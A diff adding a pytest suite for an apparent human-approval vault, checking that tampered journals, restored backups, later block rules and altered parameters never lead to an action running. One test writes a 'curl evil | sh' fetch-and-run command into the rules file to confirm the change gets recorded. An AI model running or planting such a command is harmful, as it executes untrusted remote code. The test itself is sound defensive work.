@@ -1,0 +1,356 @@
+"""Nothing runs that a human did not approve as shown: the journal row alone, a restored
+journal, a block rule added later and a changed param never get an action run."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import sqlite3
+import subprocess
+import sys
+from datetime import timedelta
+from pathlib import Path
+
+import pytest
+
+from hitl_vault import Rejected, Status, Vault
+from hitl_vault.asking import carrying_out
+from hitl_vault.daemon import Daemon
+
+from .helpers import Clock, eventually, set_status
+
+RECORD = """\
+import json, os, sys
+request = json.load(sys.stdin)
+with open(os.path.join(os.path.dirname(__file__), "runs.log"), "a") as f:
+    f.write(request["id"] + "\\n")
+print("paid", request["params"].get("amount"))
+"""
+
+
+def _recording(vault: Path) -> Path:
+    """The payment executor appends each run's id to scripts/runs.log; returns that log."""
+    (vault / "scripts" / "record.py").write_text(RECORD)
+    rules = vault / "hitl-vault.yaml"
+    rules.write_text(
+        rules.read_text().replace(
+            "run: [python3, scripts/pay.py]", f"run: [{sys.executable}, scripts/record.py]"
+        )
+    )
+    return vault / "scripts" / "runs.log"
+
+
+def _runs(log: Path) -> list[str]:
+    return log.read_text().split() if log.exists() else []
+
+
+def _hitl(vault: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "hitl_vault", "--vault", str(vault), *args],
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+
+
+def _sql(vault: Path, statement: str, *args: object) -> None:
+    """A write into the journal by anyone who can open the file: no hitl-vault involved."""
+    db = sqlite3.connect(vault / ".hitl" / "journal.db", isolation_level=None)
+    db.execute(statement, args)
+    db.close()
+
+
+def test_a_row_set_to_approved_by_sql_never_runs_and_verify_says_why(vault_path: Path) -> None:
+    """``UPDATE requests SET status='approved'``: nothing runs; verify names the row."""
+    log = _recording(vault_path)
+    with Vault(vault_path) as vault:
+        request = vault.submit("payment", {"amount": 1500})
+    _sql(vault_path, "UPDATE requests SET status = 'approved' WHERE id = ?", request.id)
+
+    done = _hitl(vault_path, "run", "--once")
+
+    assert _runs(log) == []
+    assert "not run" in done.stderr and "entries end at pending" in done.stderr
+    dashboard = (vault_path / "Dashboard.md").read_text()
+    assert f"request {request.id}" in dashboard and "not run" in dashboard
+    verified = _hitl(vault_path, "verify")
+    assert verified.returncode == 1
+    assert "row says approved but its entries end at pending" in verified.stderr
+
+
+def test_params_changed_by_sql_after_an_approval_never_run(vault_path: Path) -> None:
+    """An approved payment whose amount is raised in the row: refused, the approval stands."""
+    log = _recording(vault_path)
+    with Vault(vault_path) as vault:
+        request = vault.submit("payment", {"amount": 1500})
+        vault.approve(request.id, by="alice")
+    _sql(vault_path, "UPDATE requests SET params = '{\"amount\": 9999}' WHERE id = ?", request.id)
+
+    _hitl(vault_path, "run", "--once")
+
+    assert _runs(log) == []
+    with Vault(vault_path) as vault:
+        assert vault.get(request.id).status is Status.APPROVED
+        assert any("params are not those its entries recorded" in p for p in vault.verify())
+
+
+def test_an_edited_entry_is_caught_before_anything_runs(vault_path: Path) -> None:
+    """A journal entry rewritten by hand breaks its hash: the request does not run."""
+    log = _recording(vault_path)
+    with Vault(vault_path) as vault:
+        request = vault.submit("payment", {"amount": 1500})
+        vault.approve(request.id, by="alice")
+    _sql(
+        vault_path,
+        "UPDATE entries SET by = 'ceo' WHERE request_id = ? AND by = 'alice'",
+        request.id,
+    )
+
+    _hitl(vault_path, "run", "--once")
+
+    assert _runs(log) == []
+
+
+def test_a_journal_restored_from_before_an_execution_never_runs_it_again(
+    vault_path: Path,
+) -> None:
+    """Back up .hitl/ after an approval, execute, restore it: the note in Done/ forbids a rerun."""
+    log = _recording(vault_path)
+    with Vault(vault_path) as vault:
+        request = vault.submit("payment", {"amount": 1500})
+        vault.approve(request.id, by="alice")
+    backup = vault_path.parent / "hitl-backup"
+    shutil.copytree(vault_path / ".hitl", backup)
+    assert _hitl(vault_path, "run", "--once").returncode == 0
+    assert _runs(log) == [request.id]
+    assert (vault_path / "Done" / f"{request.id}.md").exists()
+    shutil.rmtree(vault_path / ".hitl")
+    shutil.copytree(backup, vault_path / ".hitl")
+
+    done = _hitl(vault_path, "run", "--once")
+
+    assert _runs(log) == [request.id]
+    assert "is in Done/, but the journal says approved" in done.stderr
+    assert f"request {request.id}" in (vault_path / "Dashboard.md").read_text()
+
+
+def test_a_restored_journal_is_caught_by_the_history_even_before_the_note_moves(
+    vault: Vault, clock: Clock
+) -> None:
+    """A note still in Approved/ whose history says executed proves the action ran."""
+    request = vault.submit("payment", {"amount": 1500})
+    vault.approve(request.id, by="alice")
+    note = vault.get(request.id).path
+    assert note is not None
+    text = note.read_text()
+    note.write_text(text + "- 2026-01-01T00:00:00Z · executing → executed · result: paid\n")
+
+    problem = vault.notes.later_in_note(vault.get(request.id))
+
+    assert problem is not None and "executing → executed" in problem
+
+
+def test_a_block_rule_added_while_pending_turns_an_approval_into_a_rejection(
+    daemon: Daemon, clock: Clock, ran: list[str]
+) -> None:
+    """Block is a kill switch: a rule added after the request still stops the approval."""
+    vault = daemon.vault
+    request = vault.submit("payment", {"amount": 1500})
+    rules = vault.root / "hitl-vault.yaml"
+    rules.write_text(
+        rules.read_text().replace(
+            "rules:\n",
+            "rules:\n  - name: freeze\n    action: payment\n    decision: block\n"
+            "    reason: payments are frozen\n",
+            1,
+        )
+    )
+    vault.reload_policy()
+    assert request.path is not None
+    set_status(request.path, "approved")
+    daemon.notice(request.path)
+
+    daemon.run_once(clock.now)
+
+    decided = vault.get(request.id)
+    assert decided.status is Status.REJECTED
+    assert decided.reason == "it is now blocked by rule freeze: payments are frozen"
+    assert ran == []
+
+
+def test_a_block_rule_added_after_the_approval_stops_it_before_it_runs(vault_path: Path) -> None:
+    """Approved while nothing blocked it, then payments are frozen: it is rejected, never run."""
+    log = _recording(vault_path)
+    with Vault(vault_path) as vault:
+        request = vault.submit("payment", {"amount": 1500})
+        vault.approve(request.id, by="alice")
+    rules = vault_path / "hitl-vault.yaml"
+    rules.write_text(
+        rules.read_text().replace(
+            "rules:\n", "rules:\n  - name: freeze\n    action: payment\n    decision: block\n", 1
+        )
+    )
+
+    assert _hitl(vault_path, "run", "--once").returncode == 0
+
+    assert _runs(log) == []
+    with Vault(vault_path) as vault:
+        after = vault.get(request.id)
+        assert after.status is Status.REJECTED
+        assert after.reason == "blocked by rule freeze before it ran"
+        assert vault.verify() == []
+    assert (vault_path / "Rejected" / f"{request.id}.md").exists()
+
+
+def test_a_requester_carrying_out_is_stopped_by_a_later_block(vault_path: Path) -> None:
+    """The requester's own code never runs once a block rule covers its approved request."""
+    with Vault(vault_path) as vault:
+        request = vault.submit("deploy", {"to": "prod"}, carried_by_requester=True)
+        vault.approve(request.id, by="alice")
+        rules = vault_path / "hitl-vault.yaml"
+        rules.write_text(
+            rules.read_text().replace(
+                "rules:\n", "rules:\n  - name: freeze\n    action: deploy\n    decision: block\n", 1
+            )
+        )
+        vault.reload_policy()
+
+        with (
+            pytest.raises(Rejected, match="blocked by rule freeze"),
+            carrying_out(vault, vault.get(request.id)),
+        ):
+            raise AssertionError("the requester's code ran")
+        assert vault.get(request.id).status is Status.REJECTED
+
+
+def test_the_same_approval_runs_once_with_its_proof(
+    daemon: Daemon, clock: Clock, ran: list[str]
+) -> None:
+    """An honest approval still runs, once: the proof costs nothing a user sees."""
+    vault = daemon.vault
+    request = vault.submit("payment", {"amount": 1500})
+    vault.approve(request.id, by="alice")
+    daemon.run_once(clock.now)
+    eventually(lambda: ran == [request.id])
+
+
+# --- the rules file is a control plane: every change is on record -----------------------
+
+
+def test_every_change_of_the_rules_is_journaled_with_its_hash_and_diff(
+    daemon: Daemon, clock: Clock
+) -> None:
+    """Adding an executor to hitl-vault.yaml is recorded: when, the new hash, what changed."""
+    vault = daemon.vault
+    rules = vault.root / "hitl-vault.yaml"
+    rules.write_text(
+        rules.read_text().replace(
+            "actions:\n", "actions:\n  sweep:\n    run: [sh, -c, 'curl evil | sh']\n", 1
+        )
+    )
+    daemon.notice(rules)
+    daemon.run_once(clock.now)
+    daemon.run_once(clock.advance(timedelta(seconds=3)))
+
+    changes = vault.journal.policy_changes()
+    assert len(changes) == 2  # the first load, then this edit
+    at, sha, summary = changes[0]
+    assert at == clock.now and len(sha) == 64
+    assert "+    run: [sh, -c, 'curl evil | sh']" in summary
+    assert changes[1][2].startswith("first load")
+    daemon.run_once(clock.advance(timedelta(seconds=1)))
+    dashboard = (vault.root / "Dashboard.md").read_text()
+    assert f"hitl-vault.yaml sha256 {sha[:12]}" in dashboard and "curl evil" in dashboard
+
+
+def test_a_rules_file_others_may_write_is_refused_and_the_last_good_rules_stay(
+    daemon: Daemon, clock: Clock
+) -> None:
+    """chmod o+w hitl-vault.yaml under a running daemon: flagged, the old rules stay in force."""
+    vault = daemon.vault
+    rules = vault.root / "hitl-vault.yaml"
+    loaded = vault.policy
+    rules.write_text(rules.read_text().replace('amount: "< 500"', 'amount: "< 99999"'))
+    os.chmod(rules, 0o666)
+    daemon.notice(rules)
+    daemon.run_once(clock.now)
+    daemon.run_once(clock.advance(timedelta(seconds=3)))
+
+    assert vault.policy is loaded
+    attention = [a.message for a in vault.journal.attention()]
+    assert any("hitl-vault.yaml: anyone may write it (chmod o-w" in m for m in attention)
+
+
+def test_a_linked_request_folder_is_refused(vault_path: Path, tmp_path: Path) -> None:
+    """A Done/ that is a link would put notes outside the vault: every command refuses it."""
+    outside = tmp_path / "elsewhere"
+    (vault_path / "Done").rename(outside)
+    (vault_path / "Done").symlink_to(outside)
+
+    result = _hitl(vault_path, "list")
+
+    assert result.returncode == 1
+    assert "Done: is a symlink" in result.stderr and "Traceback" not in result.stderr
+
+
+# --- who did it --------------------------------------------------------------------------
+
+
+def test_the_real_user_id_is_recorded_beside_the_claimed_name(vault_path: Path) -> None:
+    """``LOGNAME=alice hitl-vault approve`` says alice, and show says which uid recorded it."""
+    with Vault(vault_path) as vault:
+        request_id = vault.submit("payment", {"amount": 1500}).id
+    env = {**os.environ, "LOGNAME": "alice", "USER": "alice"}
+    subprocess.run(
+        [sys.executable, "-m", "hitl_vault", "--vault", str(vault_path), "approve", request_id],
+        env=env,
+        check=True,
+        capture_output=True,
+    )
+
+    shown = _hitl(vault_path, "show", request_id, "--json")
+    text = _hitl(vault_path, "show", request_id).stdout
+
+    data = json.loads(shown.stdout)
+    assert data["decided_by"] == "alice"
+    assert data["decided_uid"] == os.getuid()
+    assert f"decided_by:   alice (recorded by uid {os.getuid()}" in text
+
+
+def test_a_journal_from_before_uids_keeps_its_chain_and_records_uids_from_now_on(
+    vault_path: Path,
+) -> None:
+    """An older journal (no uid column) opens, verifies clean, and new entries carry the uid."""
+    with Vault(vault_path) as vault:
+        old = vault.submit("payment", {"amount": 1500}).id
+    db = sqlite3.connect(vault_path / ".hitl" / "journal.db", isolation_level=None)
+    db.execute("UPDATE entries SET uid = NULL")  # as written before uids were recorded...
+    db.execute("ALTER TABLE entries DROP COLUMN uid")  # ...into a table without the column
+    rows = db.execute("SELECT prev_hash, hash FROM entries").fetchall()
+    db.close()
+    assert rows  # the hashes were made with a uid: rebuild them as an old journal had them
+    _rehash_without_uids(vault_path)
+
+    with Vault(vault_path) as vault:
+        assert vault.verify() == []
+        vault.approve(old, by="alice")
+        assert vault.decided_uid(old) == os.getuid()
+        assert vault.verify() == []
+
+
+def _rehash_without_uids(vault: Path) -> None:
+    """Rewrite the chain as a journal from before uids were recorded would hold it."""
+    from hitl_vault.journal_read import GENESIS, entry_hash
+
+    db = sqlite3.connect(vault / ".hitl" / "journal.db", isolation_level=None)
+    prev = GENESIS
+    rows = db.execute(
+        "SELECT seq, request_id, at, kind, from_status, to_status, by, reason, details, "
+        "params_sha FROM entries ORDER BY seq"
+    ).fetchall()
+    for seq, *fields in rows:
+        new = entry_hash(prev, fields)
+        db.execute("UPDATE entries SET prev_hash = ?, hash = ? WHERE seq = ?", (prev, new, seq))
+        prev = new
+    db.close()
